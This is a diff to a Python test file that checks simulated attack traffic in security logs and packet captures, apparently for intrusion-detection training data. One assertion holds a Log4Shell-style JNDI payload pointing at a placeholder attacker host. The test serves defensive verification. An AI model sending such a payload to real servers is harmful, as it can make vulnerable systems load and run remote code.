@@ -103,7 +103,7 @@ def test_one_ssh_guesser_fails_and_the_other_gets_in(week: SampleWeek) -> None:
 
 def test_web_attacks_are_refused(week: SampleWeek, packets: list) -> None:
     lines = log_text(week, "access-portal.log").splitlines()
-    attacks = [line for line in lines if line.startswith(("203.0.113.66 ", "198.51.100.61 "))]
+    attacks = [line for line in lines if line.split()[1] in ("203.0.113.66", "198.51.100.61")]
     assert len(attacks) == 40
     assert all(re.search(r'" (403|404) \d+ "', line) for line in attacks)
     assert sum(b"${jndi:ldap://203.0.113.66:1389/a}" in packet.payload for packet in packets) == 5
